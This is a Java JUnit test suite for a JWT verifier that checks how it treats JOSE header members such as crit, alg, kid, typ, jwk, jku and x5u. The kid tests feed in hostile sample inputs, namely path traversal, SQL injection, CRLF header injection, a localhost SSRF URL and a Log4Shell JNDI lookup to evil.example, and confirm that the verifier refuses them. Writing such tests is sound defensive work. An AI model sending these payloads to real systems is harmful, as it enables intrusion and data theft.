package dev.portcullis.token;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.portcullis.config.Settings;
import dev.portcullis.error.Reason;
import dev.portcullis.key.HandDrivenIssuer;
import dev.portcullis.key.Replies;
import dev.portcullis.key.TestKey;
import dev.portcullis.key.TestKeys;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What the JOSE header may say and what not; all of these tokens are signed rightly. */
class HeaderTest {
  static final List<?> NOT_STRINGS =
      Arrays.asList(null, 1L, 1.5, true, List.of("RS256"), Map.of("a", "b"));

  private static VerifierFixture fixture;

  @BeforeAll
  static void start() {
    fixture = VerifierFixture.publishing(TestKeys.of("RS256"), TestKeys.of("ES256"));
  }

  @AfterAll
  static void close() {
    fixture.close();
  }

  static Stream<Arguments> unsupportedMembers() {
    return Stream.of(
        arguments("crit", List.of("exp")),
        arguments("crit", List.of("b64")),
        arguments("crit", List.of("alg")),
        arguments("crit", List.of("exp", "exp")),
        arguments("crit", List.of()),
        arguments("crit", "exp"),
        arguments("crit", null),
        arguments("b64", false),
        arguments("b64", true),
        arguments("b64", null),
        arguments("zip", "DEF"),
        arguments("zip", null),
        arguments("enc", "A256GCM"),
        arguments("enc", null));
  }

  @ParameterizedTest(name = "{0} = {1}")
  @MethodSource("unsupportedMembers")
  void anExtensionThatMustBeUnderstoodIsRefused(String name, Object value) {
    fixture.refuse(Reason.TOKEN_UNSUPPORTED, TestTokens.valid().header(name, value).sign());
  }

  @ParameterizedTest
  @FieldSource("NOT_STRINGS")
  void anAlgThatIsNotAStringIsMalformed(Object value) {
    fixture.refuse(Reason.TOKEN_MALFORMED, TestTokens.valid().header("alg", value).sign());
  }

  @Test
  void anAbsentAlgIsMalformed() {
    fixture.refuse(Reason.TOKEN_MALFORMED, TestTokens.valid().withoutHeader("alg").sign());
  }

  @ParameterizedTest
  @FieldSource("NOT_STRINGS")
  void aKidThatIsNotAStringIsMalformed(Object value) {
    fixture.refuse(Reason.TOKEN_MALFORMED, TestTokens.valid().header("kid", value).sign());
  }

  @ParameterizedTest
  @FieldSource("NOT_STRINGS")
  void aTypThatIsNotAStringIsMalformed(Object value) {
    fixture.refuse(Reason.TOKEN_MALFORMED, TestTokens.valid().header("typ", value).sign());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../etc/passwd",
        "/dev/null",
        "C:\\Windows\\win.ini",
        "' OR '1'='1",
        "\"; DROP TABLE keys; --",
        "key-RS256\r\nX-Injected: true",
        "key-RS256\0",
        "KEY-RS256",
        "key-RS256 ",
        "",
        "http://127.0.0.1/jwks.json",
        "${jndi:ldap://evil.example/a}",
        "*",
        "\ud800"
      })
  void aKidThatNamesNoKeyIsUnknownWhateverItIs(String kid) {
    fixture.refuse(Reason.KEY_UNKNOWN, TestTokens.valid().header("kid", kid).sign());
  }

  @Test
  void aKidOfTenKilobytesIsUnknown() {
    fixture.refuse(Reason.KEY_UNKNOWN, TestTokens.valid().header("kid", "k".repeat(10_240)).sign());
  }

  @Test
  void aTokenWithoutKidIsVerifiedWithTheOnlyKeyThatFits() {
    fixture.accept(TestTokens.valid().withoutHeader("kid").sign());
    fixture.accept(TestToken.signedWith(TestKeys.of("ES256")).withoutHeader("kid").sign());
    fixture.refuse(Reason.TOKEN_SIGNATURE, TestTokens.forged().withoutHeader("kid").sign());
  }

  @Test
  void aTokenWithoutKidIsRefusedWhenNoKeyFits() {
    fixture.refuse(
        Reason.KEY_MISMATCH,
        TestToken.signedWith(TestKeys.of("EdDSA")).withoutHeader("kid").sign());
  }

  @Test
  void aTokenWithoutKidIsRefusedWhenSeveralKeysFit() {
    TestKey first = TestKeys.of("RS256");
    TestKey second = TestKeys.impostorOf("RS256").named("second");
    try (VerifierFixture two = VerifierFixture.publishing(first, second, TestKeys.of("ES256"))) {
      two.refuse(Reason.KEY_AMBIGUOUS, TestToken.signedWith(first).withoutHeader("kid").sign());
      two.accept(TestToken.signedWith(second).sign());
      two.accept(TestToken.signedWith(TestKeys.of("ES256")).withoutHeader("kid").sign());
    }
  }

  @Test
  void aKeyThatTheTokenBringsAlongIsIgnored() {
    TestKey evil = TestKeys.impostorOf("RS256");
    TestToken forged = TestTokens.forged().header("jwk", evil.jwk());

    fixture.refuse(Reason.TOKEN_SIGNATURE, forged.sign());
    fixture.refuse(Reason.TOKEN_SIGNATURE, forged.withoutHeader("kid").sign());
    fixture.refuse(Reason.KEY_UNKNOWN, forged.header("kid", "evil").sign());
    fixture.accept(TestTokens.valid().header("jwk", evil.jwk()).sign());
  }

  @ParameterizedTest
  @ValueSource(strings = {"jku", "x5u"})
  void anAddressThatTheTokenBringsAlongIsNeverAsked(String member) {
    try (HandDrivenIssuer evil = HandDrivenIssuer.start()) {
      evil.answer(
          HandDrivenIssuer.JWKS,
          Replies.json(TestKeys.jwks(TestKeys.impostorOf("RS256").named("evil"))));
      TestToken forged = TestTokens.forged().header(member, evil.jwksUrl().toString());

      fixture.refuse(Reason.TOKEN_SIGNATURE, forged.sign());
      fixture.refuse(Reason.KEY_UNKNOWN, forged.header("kid", "evil").sign());
      fixture.accept(TestTokens.valid().header(member, evil.jwksUrl().toString()).sign());

      assertEquals(0, evil.requests());
    }
  }

  static Stream<Arguments> ignoredMembers() {
    return Stream.of(
        arguments("jwk", "no key"),
        arguments("jku", 1L),
        arguments("x5c", List.of("no certificate")),
        arguments("x5t", "no digest"),
        arguments("x5t#S256", null),
        arguments("cty", "JWT"),
        arguments("iss", "https://evil.example"),
        arguments("nonce", "n"),
        arguments("https://acme.example/header", Map.of("a", List.of())));
  }

  @ParameterizedTest(name = "{0} = {1}")
  @MethodSource("ignoredMembers")
  void membersThatSayNothingOfHowToReadTheTokenAreIgnored(String name, Object value) {
    fixture.accept(TestTokens.valid().header(name, value).sign());
    fixture.refuse(Reason.TOKEN_SIGNATURE, TestTokens.forged().header(name, value).sign());
  }

  @ParameterizedTest
  @ValueSource(strings = {"JWT", "jwt", "at+jwt", "application/at+jwt", "application/jwt"})
  void theTypeMayBe(String type) {
    fixture.accept(TestTokens.valid().header("typ", type).sign());
  }

  @Test
  void theTypeMayBeAbsent() {
    fixture.accept(TestTokens.valid().withoutHeader("typ").sign());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Jwt", "AT+JWT", "at+JWT", "application/AT+JWT", "APPLICATION/JWT", "at+jwt ", " at+jwt",
            "at jwt",
        "at+jwt;charset=utf-8", "text/jwt", "", "JOSE", "JWE", "dpop+jwt", "logout+jwt",
            "secevent+jwt",
        "token-introspection+jwt", "id_token", "absent", "null"
      })
  void anyOtherTypeIsRefused(String type) {
    fixture.refuse(Reason.TOKEN_TYPE, TestTokens.valid().header("typ", type).sign());
  }

  @ParameterizedTest
  @NullSource
  @ValueSource(strings = {"JWT", "jwt", "application/jwt", "absent"})
  void aTypeThatIsNotConfiguredIsRefused(String type) {
    TokenVerifier strict =
        fixture.verifier(
            settings ->
                settings.set(Settings.TOKEN_TYPES, List.of("at+jwt", "application/at+jwt")));
    TestToken token = TestTokens.valid();

    VerifierFixture.accept(strict, token.sign());
    VerifierFixture.refuse(
        strict,
        Reason.TOKEN_TYPE,
        (type == null ? token.withoutHeader("typ") : token.header("typ", type)).sign());
  }
}
